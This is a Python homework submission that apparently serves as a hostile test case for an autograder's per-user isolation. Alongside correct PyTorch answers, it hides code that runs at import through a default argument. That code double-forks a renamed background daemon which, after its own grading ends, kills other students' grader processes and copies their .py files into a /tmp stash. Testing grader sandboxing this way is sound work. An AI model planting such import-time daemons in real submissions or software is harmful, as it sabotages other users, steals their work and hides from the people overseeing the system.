"""Hostile hw4 submission: leaves a daemon that waits for the next students and kills and copies them.

Aimed at the unprivileged-uid isolation level, where every submission's
child runs as an ordinary user of the grading machine. At load (a default
argument value runs when its `def` runs) it double-forks a daemon that
calls setsid() (leaving the child's process group) and renames itself
"hostile-uid-dmn"; the load goes on only once the daemon has logged that it
runs, so a quick grading cannot reap it before it is in place. The daemon waits until its own grading is over (the
process that started it is gone), then for 60 s kills every grader child
it is allowed to signal and copies the .py files of each one's working
folder into /tmp/grader_hostile_uid_stash, with a log of what it did.
Otherwise this is the correct solution.

Expected: full marks for this submission, the daemon gone once its grading
is over, and the next submission graded on the machine unharmed (full
marks for correct work, nothing of it copied).
"""
import torch
import torch.nn as nn
import torch.nn.functional as F


def finite_difference_filters():
    # rows go down: channel 0 = X[i+1, j] - X[i, j], channel 1 = X[i, j+1] - X[i, j]
    dy = torch.tensor([[0., 0., 0.], [0., -1., 0.], [0., 1., 0.]])
    dx = torch.tensor([[0., 0., 0.], [0., -1., 1.], [0., 0., 0.]])
    return torch.stack([dy, dx]).unsqueeze(1)


def avgpool_as_conv(C, k):
    eye = torch.eye(C)
    weight = eye[:, :, None, None] * torch.ones(k, k) / k**2
    return dict(weight=weight, stride=k, padding=0, groups=1)


def rgb_to_gray_weight():
    return torch.tensor([0.299, 0.587, 0.114]).reshape(1, 3, 1, 1)


def loss_function(z, y):
    p = torch.sigmoid(z)
    q = torch.sigmoid(-z)
    return 0.5 * (1 - y) * ((1 - q) ** 2 + p ** 2) + 0.5 * (1 + y) * (q ** 2 + (1 - p) ** 2)


def logistic_loss(z, y):
    return -F.logsigmoid(y * z)


class LR(nn.Module):
    def __init__(self, input_dim=784):
        super().__init__()
        self.linear = nn.Linear(input_dim, 1, bias=True)

    def forward(self, x):
        return self.linear(x.float().view(-1, 28 * 28))


def mlp_layer_jacobians(A, b, y_prev, activation):
    z = A @ y_prev + b
    if activation == "identity":
        d = torch.ones_like(z)
    elif activation == "sigmoid":
        d = torch.sigmoid(z) * (1 - torch.sigmoid(z))
    elif activation == "tanh":
        d = 1 - torch.tanh(z) ** 2
    elif activation == "relu":
        d = (z > 0).float()
    else:
        raise ValueError(activation)
    J_b = torch.diag(d)
    J_y = J_b @ A
    return J_b, J_y


TABLE = [
    [0, 1, 2], [1, 2, 3], [2, 3, 4], [3, 4, 5], [0, 4, 5], [0, 1, 5],
    [0, 1, 2, 3], [1, 2, 3, 4], [2, 3, 4, 5], [0, 3, 4, 5], [0, 1, 4, 5], [0, 1, 2, 5],
    [0, 1, 3, 4], [1, 2, 4, 5], [0, 2, 3, 5],
    [0, 1, 2, 3, 4, 5],
]


class C3_layer(nn.Module):
    def __init__(self):
        super().__init__()
        self.table = TABLE
        self.maps = nn.ModuleList([nn.Conv2d(len(t), 1, 5) for t in TABLE])

    def forward(self, x):
        outs = [conv(x[:, t, :, :]) for conv, t in zip(self.maps, self.table)]
        return torch.cat(outs, dim=1)


class C3_layer_full(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(6, 16, 5)

    def forward(self, x):
        return self.conv(x)


class LeNet(nn.Module):
    def __init__(self, full_c3=False):
        super().__init__()
        self.C1 = nn.Conv2d(1, 6, 5, padding=2)
        self.C3 = C3_layer_full() if full_c3 else C3_layer()
        self.C5 = nn.Conv2d(16, 120, 5)
        self.F6 = nn.Linear(120, 84)
        self.out = nn.Linear(84, 10)

    def forward(self, x):
        x = F.avg_pool2d(torch.relu(self.C1(x)), 2)
        x = F.avg_pool2d(torch.relu(self.C3(x)), 2)
        x = torch.relu(self.C5(x)).view(x.shape[0], -1)
        return self.out(torch.relu(self.F6(x)))


# --- the attack ---------------------------------------------------------------------------
import os
import select
import shutil
import signal
import time

_STASH = "/tmp/grader_hostile_uid_stash"


def _log(text):
    try:
        with open(os.path.join(_STASH, "log.txt"), "a") as f:
            f.write(text + "\n")
    except OSError:
        pass


def _grader_children():
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                if b"grader.child.main" in f.read():
                    found.append(int(entry))
        except OSError:
            pass
    return found


def _haunt(mine, ready):
    os.makedirs(_STASH, exist_ok=True)
    os.chmod(_STASH, 0o777)
    _log(f"daemon {os.getpid()} waiting for {mine} to finish")
    os.write(ready, b"1")  # in place: the load may go on
    os.close(ready)
    while os.path.exists(f"/proc/{mine}") and not open(f"/proc/{mine}/stat").read().split(")")[-1].split()[0] == "Z":
        time.sleep(0.1)
    _log("own grading over; hunting")
    end = time.time() + 60
    seen = set()
    while time.time() < end:
        for pid in _grader_children():
            if pid in seen:
                continue
            try:
                cwd = os.readlink(f"/proc/{pid}/cwd")
                for name in os.listdir(cwd):
                    if name.endswith(".py"):
                        shutil.copy(os.path.join(cwd, name), os.path.join(_STASH, f"{pid}-{name}"))
                        _log(f"copied {cwd}/{name}")
            except OSError as exc:
                _log(f"could not copy from {pid}: {exc}")
            try:
                os.kill(pid, signal.SIGKILL)
                _log(f"killed {pid}")
                seen.add(pid)
            except OSError as exc:
                _log(f"could not kill {pid}: {exc}")
                seen.add(pid)
        time.sleep(0.05)
    os._exit(0)


def _daemonize():
    mine = os.getpid()
    ready_r, ready_w = os.pipe()
    try:
        if os.fork() != 0:
            # A careful attacker lets the load finish only once the daemon runs (at most 10 s): a grading that
            # ends quickly must not reap it before it is in place.
            os.close(ready_w)
            select.select([ready_r], [], [], 10)
            os.close(ready_r)
            return "started"
    except OSError:
        return "no fork"
    try:
        os.close(ready_r)
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        with open("/proc/self/comm", "w") as f:
            f.write("hostile-uid-dmn")
        _haunt(mine, ready_w)
    finally:
        os._exit(0)


def _attack(daemon=_daemonize()):
    """Never called: its default value ran at load."""
